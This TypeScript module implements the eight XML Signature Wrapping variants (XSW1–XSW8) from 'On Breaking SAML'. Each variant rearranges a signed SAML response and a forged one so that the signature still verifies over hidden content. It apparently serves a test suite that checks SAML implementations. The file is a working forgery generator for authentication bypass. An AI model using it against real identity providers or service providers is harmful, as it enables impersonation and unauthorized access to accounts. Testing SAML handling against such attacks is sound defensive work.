import { PROTOCOL } from "./namespaces.ts";

const SIGNATURE = /<ds:Signature[ >][\s\S]*<\/ds:Signature>/;
const ASSERTION = /<((?:\w+:)?Assertion)[ >][\s\S]*<\/\1>/;
const ISSUER = /<\/(?:\w+:)?Issuer>/;

/**
 * The eight ways to hide a signed element from the reader while the signature still finds it (Somorovsky et al., On
 * Breaking SAML, 2012): the first two of a signed response, the others of a signed assertion.
 */
export const WRAPPINGS = ["XSW1", "XSW2", "XSW3", "XSW4", "XSW5", "XSW6", "XSW7", "XSW8"] as const;
export type Wrapping = (typeof WRAPPINGS)[number];

/** What has to be signed for a way of wrapping to apply. */
export function signedForWrapping(wrapping: Wrapping): "response" | "assertion" {
  return wrapping === "XSW1" || wrapping === "XSW2" ? "response" : "assertion";
}

/**
 * Lays an unsigned forgery round, before or inside what was signed. Both are responses as `buildResponse` writes them on
 * one line; `signed` carries one signature.
 */
export function wrapSignature(wrapping: Wrapping, signed: string, forged: string): string {
  const signature = part(signed, SIGNATURE);
  const bare = signed.replace(signature, "");
  const assertion = part(signed, ASSERTION);
  const bareAssertion = part(bare, ASSERTION);
  const forgedAssertion = part(forged, ASSERTION);
  const instead = (forgery: string, behind = ""): string => signed.replace(assertion, () => forgery + behind);
  switch (wrapping) {
    case "XSW1":
      return afterIssuer(forged, beforeEnd(signature, object(bare)));
    case "XSW2":
      return afterIssuer(forged, bare + signature);
    case "XSW3":
      return instead(forgedAssertion, assertion);
    case "XSW4":
      return instead(beforeEnd(forgedAssertion, assertion));
    case "XSW5":
      return instead(afterIssuer(forgedAssertion, signature), bareAssertion);
    case "XSW6":
      return instead(afterIssuer(forgedAssertion, beforeEnd(signature, bareAssertion)));
    case "XSW7":
      return instead(`<x:Extensions xmlns:x="${PROTOCOL}">${forgedAssertion}</x:Extensions>`, assertion);
    case "XSW8":
      return instead(afterIssuer(forgedAssertion, beforeEnd(signature, object(bareAssertion))));
  }
}

function part(xml: string, pattern: RegExp): string {
  const [found] = pattern.exec(xml) ?? [];
  if (found === undefined) throw new Error("a response to be wrapped has an assertion and one signature");
  return found;
}

function afterIssuer(xml: string, inserted: string): string {
  return xml.replace(ISSUER, (end) => end + inserted);
}

function beforeEnd(xml: string, inserted: string): string {
  const end = xml.lastIndexOf("</");
  return xml.slice(0, end) + inserted + xml.slice(end);
}

function object(content: string): string {
  return `<ds:Object>${content}</ds:Object>`;
}
